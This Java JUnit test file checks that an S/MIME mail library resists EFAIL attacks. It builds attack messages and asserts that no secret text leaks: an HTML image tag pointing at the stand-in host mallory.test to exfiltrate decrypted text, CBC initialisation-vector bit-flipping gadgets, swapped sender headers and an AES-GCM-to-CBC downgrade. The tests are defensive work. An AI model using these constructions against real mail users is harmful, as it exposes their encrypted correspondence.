package org.signetmail.smime;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import org.junit.jupiter.api.Test;
import org.signetmail.pkix.DecryptionIdentity;
import org.signetmail.pkix.KeyAlgorithm;
import org.signetmail.pkix.SigningIdentity;
import org.signetmail.smime.MessageSigner.Form;
import org.signetmail.smime.internal.asn1.Asn1;
import org.signetmail.smime.internal.asn1.Oids;

/**
 * EFAIL (Poddebniak et al., USENIX Security 2018) and what came after, each of our own making:
 * whoever cannot open a message does not get its text by changing it.
 */
class EfailTest {
  private static final People PEOPLE = new People();
  private static final SigningIdentity ALICE = PEOPLE.signer("alice", KeyAlgorithm.P_256);
  private static final DecryptionIdentity BOB = PEOPLE.reader("bob", KeyAlgorithm.P_256);
  private static final String SECRET = "swordfish";

  private static String encrypted(CryptoProfile.Name profile) throws IOException {
    return Mail.encrypted(Mail.PLAIN, profile, BOB.certificate());
  }

  /** The encrypted entity alone, as an attacker takes it out of a message. */
  private static String entity(String message) {
    return message.substring(message.indexOf("Content-Type:"));
  }

  private static String mixed(String before, String part, String after) {
    return "From: mallory@example.test\r\nTo: bob@example.test\r\nMIME-Version: 1.0\r\n"
        + "Content-Type: multipart/mixed; boundary=outer\r\n\r\n--outer\r\n"
        + "Content-Type: text/html\r\n\r\n"
        + before
        + "\r\n--outer\r\n"
        + part
        + "\r\n--outer\r\nContent-Type: text/html\r\n\r\n"
        + after
        + "\r\n--outer--\r\n";
  }

  private static void assertStaysClosed(String message) throws IOException {
    try (Reading reading = Mail.read(message, PEOPLE, BOB)) {
      assertTrue(reading.opening().isEmpty(), reading.toString());
      assertFalse(Mail.text(reading.content().orElseThrow()).contains(SECRET));
      assertFalse(reading.verdict() instanceof Verdict.Passed, reading.toString());
    }
  }

  @Test
  void directExfiltrationByPartsAroundTheCiphertext() throws IOException {
    for (CryptoProfile.Name profile :
        new CryptoProfile.Name[] {CryptoProfile.Name.COMPATIBLE, CryptoProfile.Name.MODERN}) {
      assertStaysClosed(
          mixed("<img src=\"http://mallory.test/", entity(encrypted(profile)), "\">"));
    }
  }

  @Test
  void aPartiallyEncryptedTreeStaysAsItIs() throws IOException {
    String inner = mixed("shown", entity(encrypted(CryptoProfile.Name.MODERN)), "shown");
    assertStaysClosed(
        "From: mallory@example.test\r\nMIME-Version: 1.0\r\n"
            + "Content-Type: multipart/alternative; boundary=more\r\n\r\n--more\r\n"
            + inner.substring(inner.indexOf("Content-Type:"))
            + "\r\n--more--\r\n");
    String signed =
        Mail.signed(
            mixed("shown", entity(encrypted(CryptoProfile.Name.MODERN)), "shown")
                .replace("mallory", "alice"),
            ALICE,
            Form.MULTIPART_SIGNED);
    try (Reading reading = Mail.read(signed, PEOPLE, BOB)) {
      assertTrue(reading.opening().isEmpty(), "a signature around it does not open it");
      assertFalse(Mail.text(reading.content().orElseThrow()).contains(SECRET));
    }
  }

  /** The gadget: whoever knows the first block of text chooses it, through the vector. */
  @Test
  void aCbcGadgetIsNeverWithoutItsWarning() throws IOException {
    String message = encrypted(CryptoProfile.Name.COMPATIBLE);
    String known = "Content-Type: te";
    String wanted = "Content-Type:te/";
    String gadget = withVector(message, known, wanted);
    try (Reading reading = Mail.read(gadget, PEOPLE, BOB)) {
      Opening.Opened opened =
          assertInstanceOf(
              Opening.Opened.class, reading.opening().orElseThrow(), reading.toString());
      assertEquals(Opening.Authenticity.UNAUTHENTICATED, opened.authenticity());
      assertTrue(Mail.finds(reading, MessageFinding.UNAUTHENTICATED), reading.toString());
      assertEquals(Reading.Protection.UNPROTECTED, reading.subjectProtection());
    }
  }

  @Test
  void aCbcGadgetInASignedMessageFailsItsSignature() throws IOException {
    String message =
        Mail.signedAndEncrypted(
            Mail.PLAIN, ALICE, CryptoProfile.Name.COMPATIBLE, BOB.certificate());
    try (Reading reading = Mail.read(message, PEOPLE, BOB)) {
      assertInstanceOf(Verdict.Passed.class, reading.verdict(), reading.toString());
      assertFalse(Mail.finds(reading, MessageFinding.UNAUTHENTICATED), reading.toString());
    }
    String known = "Content-Type: mu";
    try (Reading reading = Mail.read(withVector(message, known, "Content-Type:x/u"), PEOPLE, BOB)) {
      assertFalse(reading.verdict() instanceof Verdict.Passed, reading.toString());
      assertTrue(
          Mail.finds(reading, MessageFinding.UNAUTHENTICATED) || reading.content().isEmpty());
    }
  }

  @Test
  void authenticatedEncryptionReleasesNothingThatWasChanged() throws IOException {
    String message = encrypted(CryptoProfile.Name.MODERN);
    int at = message.length() - 60;
    char other = message.charAt(at) == 'A' ? 'B' : 'A';
    String changed = message.substring(0, at) + other + message.substring(at + 1);
    try (Reading reading = Mail.read(changed, PEOPLE, BOB)) {
      assertTrue(reading.content().isEmpty(), reading.toString());
    }
  }

  /** The ciphertext of Alice's message under Mallory's header, in the hope of an answer. */
  @Test
  void aSwappedHeaderIsNotShownAsAlices() throws IOException {
    String message =
        Mail.signedAndEncrypted(
            Mail.PLAIN, ALICE, CryptoProfile.Name.COMPATIBLE, BOB.certificate());
    String swapped = "From: mallory@example.test\r\nSubject: hello\r\n" + entity(message);
    try (Reading reading = Mail.read(swapped, PEOPLE, BOB)) {
      assertTrue(Mail.finds(reading, MessageFinding.FROM_DIFFERS), reading.toString());
      assertEquals("alice@example.test", reading.from().orElseThrow().toString());
      assertEquals("the plan", reading.subject());
    }
    String unsigned =
        "From: mallory@example.test\r\nSubject: hello\r\n"
            + entity(encrypted(CryptoProfile.Name.COMPATIBLE));
    try (Reading reading = Mail.read(unsigned, PEOPLE, BOB)) {
      assertEquals(Reading.Protection.UNPROTECTED, reading.subjectProtection());
      assertInstanceOf(Verdict.Unsigned.class, reading.verdict());
      assertTrue(
          reading.findings().stream().anyMatch(f -> f.code().code().startsWith("header.from")),
          reading.toString());
    }
  }

  /** AES-GCM said to be CBC, so that its garbage would be shown (RFC 9709 §1). */
  @Test
  void authenticatedEncryptionIsNotReadWithoutAuthentication() throws IOException {
    String message = encrypted(CryptoProfile.Name.MODERN);
    int body = message.indexOf("\r\n\r\n") + 4;
    byte[] der = Base64.getMimeDecoder().decode(message.substring(body));
    String text = new String(der, StandardCharsets.ISO_8859_1);
    String gcm = new String(Asn1.oid(Oids.AUTH_ENVELOPED_DATA), StandardCharsets.ISO_8859_1);
    String plain = new String(Asn1.oid(Oids.ENVELOPED_DATA), StandardCharsets.ISO_8859_1);
    assertTrue(text.contains(gcm));
    byte[] changed =
        Asn1.sequence(
            Asn1.oid(Oids.ENVELOPED_DATA),
            text.substring(text.indexOf(gcm) + gcm.length()).getBytes(StandardCharsets.ISO_8859_1));
    assertTrue(new String(changed, StandardCharsets.ISO_8859_1).contains(plain));
    try (Reading reading = Mail.read(Foreign.message("alice@example.test", changed), PEOPLE, BOB)) {
      assertInstanceOf(Opening.Refused.class, reading.opening().orElseThrow());
      assertTrue(Mail.finds(reading, MessageFinding.MISPLACED_AEAD), reading.toString());
    }
  }

  private static String withVector(String message, String known, String wanted) {
    int body = message.indexOf("\r\n\r\n") + 4;
    byte[] der = Base64.getMimeDecoder().decode(message.substring(body));
    String text = new String(der, StandardCharsets.ISO_8859_1);
    String oid = new String(Asn1.oid(Oids.AES256_CBC), StandardCharsets.ISO_8859_1);
    int vector = text.indexOf(oid) + oid.length() + 2;
    for (int i = 0; i < known.length(); i++) {
      der[vector + i] ^= (byte) (known.charAt(i) ^ wanted.charAt(i));
    }
    return message.substring(0, body) + Base64.getMimeEncoder().encodeToString(der) + "\r\n";
  }
}
